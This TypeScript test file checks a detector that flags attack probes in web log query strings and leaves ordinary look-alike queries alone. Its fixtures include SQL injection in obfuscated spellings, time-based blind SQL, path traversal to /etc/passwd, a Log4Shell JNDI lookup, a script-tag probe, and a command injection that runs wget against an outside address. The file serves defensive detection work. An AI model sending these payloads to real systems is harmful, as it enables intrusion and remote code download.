// Marks of attacks in query strings, in the spellings that tools use, and queries of ordinary forms that must not be taken for one.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isProbeQuery } from '../../../src/ingest/formats/web-combined-query.ts';

function isProbe(query: string): boolean {
  const bytes = Buffer.from(`?${query} HTTP/1.1"`, 'latin1');
  return isProbeQuery(bytes, 1, 1 + query.length);
}

test('SQL, traversal, commands and script are found in every spelling', () => {
  for (const query of [
    'id=1+UNION+SELECT+user,2',
    'id=1%20union%20all%20select%201',
    'id=1/**/UnIoN/**/SeLeCt/**/1',
    'id=1%0aunion%0Aselect',
    "id=1'+or+'1'='1",
    'id=1%27%20OR%201=1--',
    'id=5+AND+1=1',
    'id=1;waitfor%20delay+%270:0:5%27',
    'id=sleep(5)',
    'file=../../../../etc/passwd',
    'file=..%2f..%2fboot.ini',
    'page=%2e%2e%2fconfig',
    'page=php://input',
    'x=%24%7Bjndi:ldap://192.0.2.1/a%7D',
    'q=%3CsCript%3Ealert(1)',
    'cmd=;wget+http://192.0.2.1/x',
  ])
    assert.ok(isProbe(query), query);
});

test('ordinary queries are left alone', () => {
  for (const query of [
    '',
    'q=tea+or+coffee',
    "q=o'brien",
    'q=student+union',
    'q=select+a+union+rep',
    'q=credit+union+and+selection',
    'q=sleeping+bag',
    'utm_source=newsletter&uid=12345',
    'next=%2Faccount%2Forders',
    'range=1..5',
    'price=%3C50',
    '%',
    '%2',
    '%zz',
    'page=2&sort=asc',
    'lat=52.5&lon=13.4',
  ])
    assert.ok(!isProbe(query), query);
});

test('what lies behind the query is not looked at', () => {
  const bytes = Buffer.from('q=1 ../../etc/passwd');
  assert.ok(!isProbeQuery(bytes, 0, 3));
  for (let end = 0; end < 'id=1+union+select'.length; end++)
    assert.ok(!isProbeQuery(Buffer.from('id=1+union+select'), 0, end), String(end));
});
